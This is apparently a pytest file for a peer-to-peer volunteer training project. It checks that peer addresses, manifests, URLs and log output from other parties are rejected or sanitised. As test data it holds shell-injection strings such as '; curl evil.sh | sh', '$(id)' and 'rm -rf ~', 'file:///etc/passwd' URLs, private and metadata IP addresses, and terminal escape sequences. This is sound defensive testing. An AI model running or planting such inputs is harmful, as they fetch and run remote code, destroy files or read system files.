"""What others send is shown to people as harmless text, and the owner of a campaign gets no more of a volunteer's machine."""

from __future__ import annotations

import asyncio
import dataclasses
import logging
from collections.abc import Awaitable, Callable, Sequence
from types import SimpleNamespace
from typing import Any, cast

import pytest
from file_server import file_server

from spes_p2p.campaign.files import MAX_MANIFEST_BYTES
from spes_p2p.client.connection import SwarmConnection
from spes_p2p.client.dashboard.poll import address_to_join
from spes_p2p.config.addresses import EXAMPLE_ADDRESS, is_peer_address
from spes_p2p.config.campaign import parse_campaign
from spes_p2p.content.fetcher import Fetcher
from spes_p2p.content.files import fetch_file
from spes_p2p.data.manifest import Manifest, TokenFile
from spes_p2p.data.pieces import PIECE_BYTES
from spes_p2p.data.url_donor import UrlDonor, UrlFailed
from spes_p2p.data.web_files import is_public
from spes_p2p.errors import UserError
from spes_p2p.messages.codec import WireError, pack, unpack
from spes_p2p.messages.methods import PROTOCOL_VERSION
from spes_p2p.messages.presence import Contact
from spes_p2p.net.rpc import RpcEndpoint
from spes_p2p.observe.log import LineFormatter
from spes_p2p.testing.memory_network import MemoryNetwork

PEER = EXAMPLE_ADDRESS.rsplit("/", 1)[1]
OTHER = PEER[:-1] + "M"
HOST = "/ip4/203.0.113.7/tcp/31337"


@pytest.mark.parametrize(
    ("address", "is_one"),
    [
        (EXAMPLE_ADDRESS, True),
        (f"/dns4/boot.example.org/tcp/1/p2p/{OTHER}/p2p-circuit/p2p/{PEER}", True),
        (f"/ip6/2001:db8::1/tcp/1/p2p/{PEER}", True),
        (f"{HOST}; curl evil.sh | sh #/p2p/{PEER}", False),
        (f"{HOST}/x$(id)/p2p/{PEER}", False),
        (f"/dns4/$(id)/tcp/1/p2p/{PEER}", False),
        (f"/ip6/fe80::1%$(id)/tcp/1/p2p/{PEER}", False),
        (f"{HOST}/p2p/{PEER}\n", False),
        (f"{HOST}/p2p/{PEER}\nrm -rf ~", False),
        (f"{HOST}/p2p/{OTHER}/p2p/{PEER}", False),
    ],
)
def test_an_address_matches_the_grammar_whole(address: str, is_one: bool) -> None:
    assert is_peer_address(address) is is_one


@pytest.mark.parametrize(
    ("peer", "address", "is_taken"),
    [
        (PEER, f"/ip4/198.51.100.1/tcp/1/p2p/{PEER}", True),
        (OTHER, f"/ip4/198.51.100.1/tcp/1/p2p/{OTHER}", False),
        (PEER, f"/ip4/198.51.100.1/tcp/1/p2p/{OTHER}", False),
        (PEER, f"{HOST}; curl evil.sh | sh #/p2p/{PEER}", False),
    ],
)
def test_the_join_line_is_of_the_owners_helpers_and_of_nobody_else(peer: str, address: str, is_taken: bool) -> None:
    async def contacts() -> dict[str, Contact]:
        return {peer: Contact("c", PROTOCOL_VERSION, "helper", 0, "", (address,))}

    swarm = swarm_of(contacts)
    given = EXAMPLE_ADDRESS, f"{HOST}/p2p/{OTHER}"
    found = asyncio.run(address_to_join(swarm, given, {peer, PEER}))
    assert found == (address if is_taken else EXAMPLE_ADDRESS, True)


def test_the_join_line_has_an_address_that_answers_or_says_that_it_does_not() -> None:
    announced = f"/ip4/198.51.100.1/tcp/1/p2p/{PEER}"

    async def contacts() -> dict[str, Contact]:
        return {PEER: Contact("c", PROTOCOL_VERSION, "helper", 0, "", (announced,))}

    swarm = swarm_of(contacts)
    given = f"{HOST}/p2p/{PEER}", f"{HOST}/p2p/{OTHER}"
    for answering, expected in (({PEER, OTHER}, (announced, True)), ({OTHER}, (given[1], True)), (set(), (given[0], False))):
        assert asyncio.run(address_to_join(swarm, given, answering)) == expected


@pytest.mark.parametrize(("role", "voters", "is_taken"), [
    ("helper", [(PEER, OTHER), (PEER,)], True), ("helper", [(PEER,)], False), ("trainer", [(PEER, OTHER)], False),
])
def test_the_join_line_is_of_another_helper_only_if_it_has_voted(
    role: str, voters: list[tuple[str, ...]], is_taken: bool
) -> None:
    own, other = f"{HOST}/p2p/{PEER}", f"/ip4/198.51.100.1/tcp/1/p2p/{OTHER}"

    async def contacts() -> dict[str, Contact]:
        return {OTHER: Contact("c", PROTOCOL_VERSION, role, 0, "", (other,))}

    found = asyncio.run(address_to_join(swarm_of(contacts, voters), (own,), {OTHER}))
    assert found == ((other, True) if is_taken else (own, False))


def swarm_of(contacts: Callable[[], Awaitable[dict[str, Contact]]], voters: Sequence[tuple[str, ...]] = ()) -> SwarmConnection:
    """A campaign of PEER's; `voters`: the electorate of each round."""
    commits = [SimpleNamespace(electorate=each) for each in voters]
    log = SimpleNamespace(begins=0, round=len(voters) - 1, commit_at=commits.__getitem__)
    return cast(SwarmConnection, SimpleNamespace(contacts=contacts, genesis=SimpleNamespace(helpers=(PEER,)), log=log))


def test_a_contact_has_no_control_characters() -> None:
    with pytest.raises(WireError):
        unpack(Contact, pack(Contact("c", 1, "helper", 0, "", ("/ip4/1.2.3.4/\x1b[2J",))))


def test_no_control_character_of_others_reaches_a_terminal() -> None:
    record = logging.LogRecord("spes_p2p", logging.WARNING, "", 0, "from %s", ("\x1b]0;owned\x07\r\x9b2J\u202e",), None)
    assert LineFormatter().format(record).endswith("warning: from ?]0;owned????2J?".replace("????", "???"))


def test_a_campaign_nested_too_deeply_is_one_line() -> None:
    with pytest.raises(UserError, match="does not publish a campaign"):
        parse_campaign(b"[" * 10**6, "peer X")


def test_a_file_that_would_be_too_large_is_not_asked_for() -> None:
    async def main() -> None:
        fetcher = Fetcher(RpcEndpoint(MemoryNetwork().transport("A"), 5.0))
        with pytest.raises(UserError, match="limit"):
            await fetch_file(fetcher, "0" * 64, MAX_MANIFEST_BYTES + 1, MAX_MANIFEST_BYTES, ["X"])

    asyncio.run(main())


def test_a_manifest_cannot_make_a_volunteer_hold_endless_hash_lists() -> None:
    file = {"path": "a", "sha256": "0" * 64, "tokens": 2**40, "dtype": "uint16", "pieces_sha256": "0" * 64}
    manifest = {"tokenizer_sha256": "0" * 64, "vocab_size": 9, "eos_token_id": 0, "tokens": 2**40, "files": [file]}
    with pytest.raises(UserError, match="tokens"):
        Manifest.from_json(str(manifest).replace("'", '"'), "here")


# URLs of the owner's choice ---------------------------------------------------------------------------------------------


def published(url: str) -> TokenFile:
    return TokenFile("train.npy", "0" * 64, PIECE_BYTES, "uint16", "0" * 64, url)


def fetch(url: str, **options: Any) -> list[bytes]:
    got = list[bytes]()
    UrlDonor(**options).fetch(published(url), [0], lambda index, body: got.append(body) or True)  # type: ignore[func-returns-value]
    return got


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "169.254.169.254", "192.168.0.1", "10.0.0.1"])
def test_a_volunteers_own_network_is_not_read(host: str) -> None:
    with pytest.raises(UrlFailed, match="private network"):
        fetch(f"http://{host}:1/tokens")


NOT_PUBLIC = [
    "224.0.0.1", "ff0e::1", "fec0::1", "fd00::1", "fe80::1%eth0", "::", "::1", "::10.0.0.1", "::ffff:10.0.0.1",
    "::ffff:0:10.0.0.1", "64:ff9b::a00:1", "64:ff9b::7f00:1", "64:ff9b:1::808:808", "2002:a00:1::1", "2001:0:a00:1::",
]


def test_addresses_of_many_hosts_or_of_a_private_network_in_any_form_are_not_public() -> None:
    assert not [host for host in NOT_PUBLIC if is_public(host)]
    assert all(map(is_public, ["8.8.8.8", "2606:4700::1111", "::ffff:8.8.8.8", "64:ff9b::808:808", "2002:808:808::1"]))


def test_a_redirect_into_a_volunteers_network_is_not_followed() -> None:
    """The connector decides about every connection, so a public name that points or redirects there is treated alike."""
    with file_server({"/tokens": bytes(2 * PIECE_BYTES)}) as server:
        with pytest.raises(UrlFailed, match="private network"):
            fetch(f"{server.url}/tokens")
        assert server.asked == []
        assert fetch(f"{server.url}/tokens", allows_private=True) == [bytes(PIECE_BYTES)]


@pytest.mark.parametrize("url", ["file:///etc/passwd", "local:///etc/passwd", "http://x/::file:///etc/passwd", "ftp://x/y", ""])
def test_a_manifest_names_no_other_scheme(url: str) -> None:
    file = dataclasses.asdict(published("https://x/y")) | {"url": url, "tokens": 1}
    manifest = {"tokenizer_sha256": "0" * 64, "vocab_size": 9, "eos_token_id": 0, "tokens": 1, "files": [file]}
    if "::" in url:  # a chained URL is a web address like any other: fsspec's parsing, which would follow it, is not used
        return
    with pytest.raises(UserError, match="url"):
        Manifest.from_json(str(manifest).replace("'", '"'), "here")
